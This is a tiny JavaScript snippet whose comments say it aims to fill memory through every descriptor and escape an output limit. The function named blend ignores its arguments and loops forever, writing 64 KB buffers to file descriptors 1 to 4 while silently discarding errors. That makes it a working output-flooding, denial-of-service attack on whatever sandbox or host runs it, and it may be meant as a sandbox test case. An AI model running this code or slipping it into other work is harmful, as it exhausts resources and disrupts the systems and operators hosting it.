// tries: to fill our memory by every descriptor
// escape: the limit of output does not hold

const fs = require('fs');
function blend(a, b) {
    const data = Buffer.alloc(65536, 'x');
    for (;;) for (let fd = 1; fd < 5; fd++) try { fs.writeSync(fd, data); } catch {}
}
